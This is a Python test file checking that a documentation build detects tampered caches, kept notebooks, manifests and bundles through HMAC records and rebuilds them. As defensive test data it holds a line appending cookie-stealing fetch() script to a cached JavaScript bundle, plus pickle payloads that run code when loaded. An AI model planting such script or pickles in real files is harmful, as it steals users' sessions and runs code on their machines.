"""Caches and kept runs are untrusted: what the build reuses from `_build/` or the user's cache
folder either passes the record written with it or is dropped and made again.

One scratch book is built once for the module (a template gluing 42, then one gluing 43; its
chapter reads a small population file through the read cache, so a parsed table is kept, and
both runs are kept by run key). Each case damages a copy of it and builds once: the build
succeeds, says in one line which file it did not reuse and why, publishes the true figure
(the page of the clean build) and runs nothing placed in the caches.
"""

import hashlib
import hmac
import json
import os
import pickle
import re
import shutil
from pathlib import Path

import pytest

from analysis import build as build_module
from analysis.readcache import cache_key
from conftest import scratch_book, scratch_notebook, scratch_registry

POPULATION = ("nhse_ccg_code,ons_ccg_code,total_all,male_0_4,female_0_4\n"
              "00A,E38000001,30,10,20\n00B,E38000002,12,5,7\n")  # 42 people


def cells(csv: Path, more: int) -> list[str]:
    return [f"from myst_nb import glue\nfrom analysis.population import read_population\n"
            f"table = read_population({str(csv)!r})\n"
            f"glue(\"answer\", int(table[\"population\"].sum()) + {more}, display=False)"]


def text_of(path: Path) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", path.read_text()))


def build(root: Path, **kwargs) -> list[str]:
    messages = []
    build_module.build(book_dir=root / "book", build_dir=root / "_build", progress=messages.append, **kwargs)
    return messages


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A scratch book built with the template gluing 42, then with the one gluing 43 (the book in
    place), in its own user cache folder; the two templates, and each clean page's text."""
    root = tmp_path_factory.mktemp("built")
    (root / "population.csv").write_text(POPULATION)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CACHE_HOME", str(root / "user-cache"))
        scratch_book(root, patch, cells(root / "population.csv", 0))
        pages = {}
        for answer in (42, 43):
            scratch_notebook(root / f"template-{answer}.md", cells(root / "population.csv", answer - 42))
            shutil.copyfile(root / f"template-{answer}.md", root / "scratch.md")
            build(root)
            pages[answer] = text_of(root / "_build" / "html" / "chapters" / "scratch.html")
            assert f"The answer is {answer}." in pages[answer]
    return root, pages


def copy_of(built, tmp_path, monkeypatch, answer: int) -> Path:
    """A copy of the built book whose template glues `answer`, with its own user cache folder."""
    root = tmp_path / "book-copy"
    shutil.copytree(built[0], root, symlinks=True)
    shutil.copyfile(root / f"template-{answer}.md", root / "scratch.md")
    scratch_registry(monkeypatch, root / "scratch.md", root / "_toc.yml")
    monkeypatch.setenv("XDG_CACHE_HOME", str(root / "user-cache"))
    return root


def glued(notebook: Path, value: str | None = None) -> str:
    """The glued `answer` of an executed notebook; with `value`, set it to that first."""
    nb = json.loads(notebook.read_text())
    output = next(o for c in nb["cells"] for o in c.get("outputs", [])
                  if o.get("metadata", {}).get("scrapbook", {}).get("name") == "answer")
    key = next(k for k in output["data"] if k.endswith("text/plain"))
    if value is not None:
        output["data"][key] = value
        notebook.write_text(json.dumps(nb))
    return output["data"][key]


def kept_notebook(root: Path, answer: int) -> Path:
    return next(p for p in (root / "_build" / "cache" / "runs").glob("*/*.ipynb") if glued(p) == str(answer))


def cut_in_half(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def vega_bundle(root: Path) -> Path:
    return next((root / "user-cache" / "nhs-handbook").glob("vega-bundle-*.js"))


def manifest(root: Path) -> Path:
    return root / "_build" / "work" / "2016-17" / "manifest.json"


def alter_cached_table(root: Path) -> None:
    """Double every population in the kept parsed file (a valid Arrow table)."""
    import pyarrow as pa

    kept = next((root / "_build" / "cache" / "reads").glob("*/*.arrow"))
    table = pa.ipc.open_file(pa.BufferReader(kept.read_bytes())).read_all().to_pandas()
    table["population"] *= 2
    altered = pa.Table.from_pandas(table)
    with pa.OSFile(str(kept), "wb") as sink, pa.ipc.new_file(sink, altered.schema) as writer:
        writer.write_table(altered)


def edit_manifest_and_its_record(root: Path) -> None:
    """Point the manifest at another notebook and write a record for it under a key of one's own."""
    entries = json.loads(manifest(root).read_text())
    entries["scratch"]["notebook"] = hashlib.sha256(b"another notebook").hexdigest()
    data = json.dumps(entries).encode()
    manifest(root).write_bytes(data)
    forged = hmac.new(os.urandom(32), b"2016-17/manifest.json\0" + data, hashlib.sha256).hexdigest()
    manifest(root).with_name("manifest.json.hmac").write_text(forged)


def replace_sphinx_environment(root: Path) -> None:
    (root / "_build" / "work" / "2016-17" / "doctrees" / "environment.pickle").write_bytes(payload(root))


class Payload:
    """Unpickled, it creates the file MARKER."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def payload(root: Path) -> bytes:
    return pickle.dumps(Payload(root / "MARKER"))


KEPT_RUN = r"_build/cache/runs/\w+/\w+\.ipynb is not the notebook recorded in \w+\.json .*; chapter 'scratch' is " \
           r"executed again\.$"
MANIFEST = r"_build/work/2016-17/manifest.json (does not match the record written with it|has no record).*; the " \
           r"edition's chapters are taken from their kept runs or executed again\.$"
BUNDLE = r"user-cache/nhs-handbook/vega-bundle-[\w.]+\.js (does not match the record written with it|has no record)" \
         r".*; it is made again from vl-convert\.$"
SPHINX = r"sphinx-state\.json records Sphinx's state and the published HTML, and {} is not as recorded .*; Sphinx's " \
         r"saved state is cleared and the edition's HTML built afresh\.$"

# case: (damage, the template's answer (the true figure), build options, the one line said)
CASES = {
    "cached table altered": (alter_cached_table, 43, {"force": True},
                             r"_build/cache/reads/\w+/\w+\.arrow does not match the record written with it"),
    "kept notebook edited": (lambda root: glued(kept_notebook(root, 42), "41"), 42, {}, KEPT_RUN),
    "kept notebook truncated": (lambda root: cut_in_half(kept_notebook(root, 42)), 42, {}, KEPT_RUN),
    "reused chapter notebook edited": (
        lambda root: glued(root / "book" / "chapters" / "scratch.ipynb", "99"), 43, {},
        r"book/chapters/scratch\.ipynb is not the notebook the build wrote there \(its sha256 differs from the "
        r"manifest's\); it is left out and its chapter made again\.$"),
    "manifest entry of the wrong type": (lambda root: manifest(root).write_text('{"scratch": [1, 2]}'), 43, {},
                                         MANIFEST),
    "manifest not JSON": (lambda root: manifest(root).write_text('{"scratch": {"key": '), 43, {}, MANIFEST),
    "manifest and its record edited": (edit_manifest_and_its_record, 43, {}, MANIFEST),
    "Vega bundle empty": (lambda root: vega_bundle(root).write_bytes(b""), 43, {}, BUNDLE),
    "Vega bundle truncated": (lambda root: cut_in_half(vega_bundle(root)), 43, {}, BUNDLE),
    "Vega bundle altered": (lambda root: vega_bundle(root).write_bytes(
        vega_bundle(root).read_bytes() + b"\nfetch('https://example.org/?' + document.cookie);\n"), 43, {}, BUNDLE),
    "Vega bundle without its record": (
        lambda root: vega_bundle(root).with_name(vega_bundle(root).name + ".hmac").unlink(), 43, {}, BUNDLE),
    "Sphinx environment replaced": (replace_sphinx_environment, 43, {"force": True},
                                    SPHINX.format(r"work/doctrees/environment\.pickle")),
    "published page edited": (lambda root: (root / "_build" / "html" / "chapters" / "scratch.html").write_text(
        (root / "_build" / "html" / "chapters" / "scratch.html").read_text().replace("43", "99")), 43, {},
        SPHINX.format(r"published/chapters/scratch\.html")),
}


@pytest.mark.parametrize("case", CASES)
def test_a_damaged_cache_entry_is_dropped_said_once_and_made_again(built, tmp_path, monkeypatch, case):
    damage, answer, options, line = CASES[case]
    root = copy_of(built, tmp_path, monkeypatch, answer)
    clean_bundle = vega_bundle(root).read_bytes()
    damage(root)
    said = [m for m in build(root, **options) if m.startswith("Not reused")]
    assert len(said) == 1 and re.search(line, said[0]), said
    html = root / "_build" / "html"
    assert text_of(html / "chapters" / "scratch.html") == built[1][answer]
    assert (html / "_static" / "vega-bundle.js").read_bytes() == clean_bundle
    assert not (root / "MARKER").exists()
    assert [m for m in build(root) if m.startswith("Not reused")] == []  # made again, with its record


def test_files_placed_in_the_caches_never_run(built, tmp_path, monkeypatch):
    """Pickles placed where the read cache (under its former name too) and Sphinx keep their
    files, and Python where the build kept Sphinx's conf.py, are not loaded: the chapter is
    executed and the HTML built again, and no payload runs."""
    from analysis.editions import code_checksum

    root = copy_of(built, tmp_path, monkeypatch, 43)
    reads = next((root / "_build" / "cache" / "reads").iterdir())
    key = cache_key("analysis.population.read_population", built[0] / "population.csv", code_checksum())
    for name in (f"{key}.arrow", f"{key}.pickle", "any.pickle"):
        (reads / name).write_bytes(payload(root))
    for doctree in (root / "_build" / "work" / "2016-17" / "doctrees").rglob("*.doctree"):
        doctree.write_bytes(payload(root))
    replace_sphinx_environment(root)
    config = build_module.plan.CONFIG_FILE.read_bytes() + build_module.toc_text(build_module.load_registry(), "").encode()
    conf = root / "_build" / "cache" / f"conf-{hashlib.sha256(config).hexdigest()[:16]}.py"
    conf.write_text(f"open({str(root / 'MARKER')!r}, 'w')\n")

    said = [m for m in build(root, force=True) if m.startswith("Not reused")]
    assert not (root / "MARKER").exists()
    assert text_of(root / "_build" / "html" / "chapters" / "scratch.html") == built[1][43]
    assert sorted(re.sub(r" .*", "", line.split("/")[-1]) for line in said[:3]) == sorted(
        ["any.pickle", f"{key}.arrow", f"{key}.pickle"])
    assert "sphinx-state.json records Sphinx's state" in said[3] and len(said) == 4
    assert sorted(p.suffix for p in reads.iterdir()) == [".arrow", ".hmac"]  # a table again, with its record


def test_records_are_made_under_a_private_key_and_bind_the_files_name(tmp_path, monkeypatch):
    """The key is made once, readable by the user only, outside the caches; a record passes only
    for the bytes and the name it was written for, and only under that key."""
    from analysis import sealed

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setattr(sealed, "_key", None)
    kept = tmp_path / "cache" / "runs" / "entry.json"
    sealed.write(kept, b'{"figure": 42}')
    key = tmp_path / "config" / "nhs-handbook" / "cache-key"
    assert key.stat().st_mode & 0o777 == 0o600 and key.parent.stat().st_mode & 0o777 == 0o700
    said = []
    assert sealed.read(kept, said.append, "made again") == b'{"figure": 42}' and said == []

    monkeypatch.setattr(sealed, "_key", None)  # another process: the same key, read from its file
    assert sealed.read(kept, said.append, "made again") == b'{"figure": 42}' and said == []

    other = tmp_path / "cache" / "runs" / "another.json"  # a valid file and record under another name
    shutil.copyfile(kept, other)
    shutil.copyfile(kept.with_name("entry.json.hmac"), other.with_name("another.json.hmac"))
    assert sealed.read(other, said.append, "made again") is None and not other.exists()
    assert said == [f"Not reused: {other} does not match the record written with it (changed since, or the "
                    "record edited); made again."]

    key.write_text(os.urandom(32).hex() + "\n")  # a record made under another key
    monkeypatch.setattr(sealed, "_key", None)
    assert sealed.read(kept, None, "made again") is None and not kept.exists()
